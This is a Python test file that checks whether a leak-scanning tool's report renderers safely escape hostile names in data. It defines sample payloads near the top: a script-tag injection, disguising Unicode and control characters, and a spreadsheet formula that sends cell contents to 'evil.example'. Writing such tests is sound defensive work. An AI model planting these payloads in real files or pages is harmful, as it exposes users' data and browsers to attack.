"""Every output format, the ones to come too, stays harmless whatever a name in the data holds."""

from __future__ import annotations

import csv
import json
import re
from io import StringIO
from typing import Any

import pytest
import reports

from leakscan.renderers import RENDERERS, RenderOptions

SCRIPT = "<script>alert(1)</script>"
SIGNS = "\u202egnp.\u2066exe\x00\x1b[2J\u2028\ufeff\udcff"
RIGHT_TO_LEFT = "\u0645\u0631\u064a\u0636 \u05d7\u05d5\u05dc\u05d4"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
ATTACKS = {"script": SCRIPT, "signs": SIGNS, "right-to-left": RIGHT_TO_LEFT, "formula": FORMULA, "both": SIGNS + SCRIPT}
FREE = frozenset(("path", "member", "column", "reason", "message"))
OF_MACHINES = {"json", "edpb", "sarif", "ocsf"}
LONG = 1_000_000
MANY = 1_000


def poisoned(report: Any, attack: str, key: str = "") -> Any:
    """The report with an attack in front of every text that the data chose."""
    if isinstance(report, dict):
        return {name: poisoned(value, attack, name) for name, value in report.items()}
    if isinstance(report, list):
        return [poisoned(value, attack, key) for value in report]
    return attack + report if isinstance(report, str) and key in FREE else report


def texts(name: str, report: Any) -> list[str]:
    """What a format writes, in both languages."""
    return [RENDERERS[name].render(report, RenderOptions(lang, width=120)) for lang in ("en", "fr")]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("name", RENDERERS)
def test_no_name_does_anything(name: str, attack: str) -> None:
    for text in texts(name, poisoned(reports.reference_report(), attack)):
        assert text.encode("utf-8")
        assert not [char for char in text if ord(char) < 32 and char not in "\n\r"]
        assert not set(text) & set("\u202e\u2066\u2028\ufeff\u2029\u200f")
        if name in OF_MACHINES:
            lines = [json.loads(line) for line in text.splitlines()] if name == "ocsf" else [json.loads(text)]
            assert all(isinstance(line, dict) for line in lines)
        elif name in {"html", "cnil"}:
            assert not re.search(r"<(?:script|img|iframe|svg/)", text)
        elif name == "csv":
            cells = [cell for row in csv.reader(StringIO(text)) for cell in row]
            assert not [cell for cell in cells if re.match(r"\s*[=+@\t]|-[^0-9]", cell)]


@pytest.mark.parametrize("name", RENDERERS)
def test_a_column_name_of_a_megabyte_is_borne(name: str) -> None:
    report = reports.reference_report()
    column = report["inputs"][0]["roles"][0]["column"]
    long = SCRIPT + "A" * LONG
    report["inputs"][0]["roles"][0]["column"] = long
    lines = [entry for entry in report["evidence"] if entry["column"] == column]
    for entry in lines:
        entry["column"] = long
    plain = texts(name, reports.reference_report())
    for text, before in zip(texts(name, report), plain, strict=True):
        # where it stands whole, it stands as often as the format repeats the name of a column
        assert len(text) <= len(before) + 5 * (len(lines) + 1) * (LONG + 1_000)
        assert name in OF_MACHINES | {"csv"} or len(text) <= len(before) + 100_000


@pytest.mark.parametrize("name", RENDERERS)
def test_many_inputs_are_borne_by_every_format(name: str) -> None:
    report = reports.reference_report()
    source = report["inputs"][0]
    report["inputs"] = [{**source, "path": f"{at}/{SCRIPT}.csv"} for at in range(MANY)]
    report["evidence"] = [{**report["evidence"][0], "path": f"{at}/{SCRIPT}.csv"} for at in range(MANY)]
    (text, _) = texts(name, report)
    assert text
    if name in {"html", "cnil"}:
        assert "<script" not in text
